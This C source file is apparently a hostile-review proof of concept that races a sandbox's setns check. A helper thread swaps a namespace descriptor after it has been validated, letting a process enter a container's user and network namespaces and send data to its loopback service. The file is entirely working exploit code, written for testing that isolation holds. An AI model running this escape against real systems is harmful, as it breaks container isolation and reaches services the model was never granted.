/*
 * ha26-swapexit (hostile review h-attack26): the setns judgment duplicates
 * the descriptor first, walks the run (every /proc entry), and only then
 * reads the caller's "Threads:". A second thread that existed at the
 * duplicate swaps the descriptor after it and exits before the count is
 * read: the count says 1, the judged namespace was the run's, the kernel
 * enters what the descriptor names now (a container's user namespace).
 * Then the container's network namespace is "the run's" (a run process is
 * in its owner) and its loopback service is reached.
 *
 *   ha26-swapexit USERNS NETNS PORT LINE [FILLERS]
 *
 * USERNS/NETNS: nsfs files of the container (bind-mounted). FILLERS: run
 * processes made first so that the walk takes long (default 300).
 * Exits 1 when a worker entered the container's user namespace (and sent
 * LINE to 127.0.0.1:PORT there), 0 when every try failed.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int own_fd, foreign_fd;
static long delay_ns, start_ns = 1000000;

static long now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000L + t.tv_nsec;
}

static ino_t ino_of(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 ? st.st_ino : 0;
}

static ino_t self_ino(const char *t)
{
	char p[64];
	int fd;
	ino_t i;

	snprintf(p, sizeof(p), "/proc/self/ns/%s", t);
	fd = open(p, O_RDONLY);
	i = ino_of(fd);
	close(fd);
	return i;
}

/* The swapper thread: waits, swaps descriptor 10, exits (raw syscalls
 * only: it shares our memory and runs on its own stack). */
static int swapper(void *arg)
{
	long start = *(long *)arg;

	while (now_ns() - start < delay_ns)
		;
	syscall(SYS_dup2, foreign_fd, 10);
	syscall(SYS_exit, 0);
	return 0;
}

static pid_t holder(void)
{
	int up[2];
	char c;
	pid_t pid;

	if (pipe(up))
		return -1;
	pid = fork();
	if (pid == 0) {
		close(up[0]);
		if (unshare(CLONE_NEWUSER) != 0)
			_exit(3);
		if (write(up[1], "1", 1) != 1)
			_exit(3);
		pause();
		_exit(0);
	}
	close(up[1]);
	if (pid < 0 || read(up[0], &c, 1) != 1)
		return -1;
	return pid;
}

int main(int argc, char **argv)
{
	int fillers = argc > 5 ? atoi(argv[5]) : 300, netfd, port, hits = 0;
	ino_t foreign_ino;
	char path[64];
	pid_t h;

	if (argc < 5)
		return 2;
	if (getenv("HA26_DELAY_US"))
		start_ns = atol(getenv("HA26_DELAY_US")) * 1000;
	foreign_fd = open(argv[1], O_RDONLY);
	netfd = open(argv[2], O_RDONLY);
	port = atoi(argv[3]);
	foreign_ino = ino_of(foreign_fd);
	if (foreign_fd < 0 || netfd < 0)
		return 2;
	/* Fillers first, the holder last: the walk meets it late. */
	pid_t *kids = calloc(fillers + 1, sizeof(pid_t));

	for (int i = 0; i < fillers; i++)
		if ((kids[i] = fork()) == 0) {
			pause();
			_exit(0);
		}
	h = holder();
	snprintf(path, sizeof(path), "/proc/%d/ns/user", (int)h);
	own_fd = open(path, O_RDONLY);
	if (own_fd < 0)
		return 2;
	for (int attempt = 0; attempt < 400 && !hits; attempt++) {
		pid_t w;
		int st;

		delay_ns = start_ns + (attempt % 40) * 100000;
		w = fork();
		if (w == 0) {
			static char stack[65536] __attribute__((aligned(16)));
			long start;
			int s;
			struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};

			dup2(own_fd, 10);
			start = now_ns();
			if (clone(swapper, stack + sizeof(stack),
				  CLONE_VM | CLONE_SIGHAND | CLONE_THREAD | CLONE_FILES,
				  &start) < 0)
				_exit(3);
			if (syscall(SYS_setns, 10, CLONE_NEWUSER) != 0)
				_exit(4);
			if (self_ino("user") != foreign_ino)
				_exit(5);
			/* In the container's user namespace: its network
			 * namespace is now "the run's" (we are in its owner). */
			if (syscall(SYS_setns, netfd, CLONE_NEWNET) != 0) {
				fprintf(stderr, "ha26: in the container's user ns; net join: %s\n",
					strerror(errno));
				_exit(6);
			}
			s = socket(AF_INET, SOCK_STREAM, 0);
			inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
			if (connect(s, (struct sockaddr *)&a, sizeof(a)) != 0) {
				fprintf(stderr, "ha26: connect: %s\n", strerror(errno));
				_exit(7);
			}
			if (write(s, argv[4], strlen(argv[4])) < 0)
				_exit(8);
			fprintf(stderr, "ha26: entered the container's user+net ns, sent\n");
			_exit(0);
		}
		if (w < 0 || waitpid(w, &st, 0) != w)
			break;
		if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
			hits++;
		else if (WIFEXITED(st) && WEXITSTATUS(st) >= 6)
			fprintf(stderr, "ha26: attempt %d: joined user ns, then exit %d\n", attempt,
				WEXITSTATUS(st));
		if (attempt % 40 == 39)
			fprintf(stderr, "ha26: %d attempts\n", attempt + 1);
	}
	fprintf(stderr, "ha26: hits %d\n", hits);
	for (int i = 0; i < fillers; i++)
		kill(kids[i], SIGKILL);
	kill(h, SIGKILL);
	while (wait(NULL) > 0)
		;
	return hits ? 1 : 0;
}
